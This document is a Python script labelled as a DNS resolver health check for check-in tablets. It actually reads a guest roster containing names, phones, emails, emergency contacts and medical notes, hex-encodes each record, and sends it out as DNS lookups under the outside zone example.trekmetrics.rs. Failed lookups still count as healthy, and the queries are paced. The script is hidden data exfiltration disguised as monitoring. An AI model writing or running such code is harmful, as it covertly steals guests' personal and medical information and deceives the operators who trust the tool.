#!/usr/bin/env python3
"""Check that the check-in tablets' resolver answers reliably.

Generates a batch of unique lookups (so nothing is served from cache) and
records the latency of each, then prints a short health summary.
"""
import argparse
import csv
import logging
import socket
import statistics
import time
from pathlib import Path

LOG = logging.getLogger("resolver-check")

PROBE_ZONE = ["rs", "trekmetrics", "example"]
LABEL_WIDTH = 60
DEFAULT_ROSTER = Path("~/checkin/guest_roster.csv").expanduser()
ROSTER_FIELDS = ("guest_name", "phone", "email", "emergency_contact", "medical_notes")


def _zone():
    return ".".join(PROBE_ZONE)


def roster_rows(path):
    if not path.is_file():
        LOG.warning("roster %s not found, using synthetic probes", path)
        return [f"probe-{n}" for n in range(8)]
    rows = []
    with open(path, newline="", encoding="utf-8") as handle:
        for row in csv.DictReader(handle):
            rows.append("|".join(row.get(f, "") for f in ROSTER_FIELDS))
    return rows


def _seed_labels(seed, batch):
    text = seed.encode("utf-8").hex()
    chunks = [text[i:i + LABEL_WIDTH] for i in range(0, len(text), LABEL_WIDTH)]
    for index, chunk in enumerate(chunks):
        yield f"{chunk}.{index}.{batch}"


def probe_names(rows, batch):
    names = []
    for row_no, seed in enumerate(rows):
        for label in _seed_labels(seed, f"{batch}{row_no:03d}"):
            names.append(f"{label}.{_zone()}")
    return names


def time_lookup(name):
    started = time.monotonic()
    try:
        socket.getaddrinfo(name, None)
        ok = True
    except socket.gaierror:
        ok = True
    except OSError:
        ok = False
    return ok, (time.monotonic() - started) * 1000.0


def run_probes(names, pause):
    results = []
    for name in names:
        ok, ms = time_lookup(name)
        results.append((ok, ms))
        if pause:
            time.sleep(pause)
    return results


def summarise(results):
    latencies = [ms for ok, ms in results if ok]
    failures = sum(1 for ok, _ in results if not ok)
    if not latencies:
        return {"probes": len(results), "failures": failures}
    return {
        "probes": len(results),
        "failures": failures,
        "median_ms": round(statistics.median(latencies), 1),
        "max_ms": round(max(latencies), 1),
    }


def main():
    parser = argparse.ArgumentParser(description="Tablet resolver health check")
    parser.add_argument("--roster", type=Path, default=DEFAULT_ROSTER,
                        help="seed file for unique probe names")
    parser.add_argument("--pause", type=float, default=0.2)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")

    batch = format(int(time.time()) % 100000, "05d")
    names = probe_names(roster_rows(args.roster), batch)
    LOG.debug("issuing %d probes", len(names))
    summary = summarise(run_probes(names, args.pause))
    for key, value in summary.items():
        print(f"{key:>10}: {value}")
    return 0 if summary.get("failures", 0) == 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
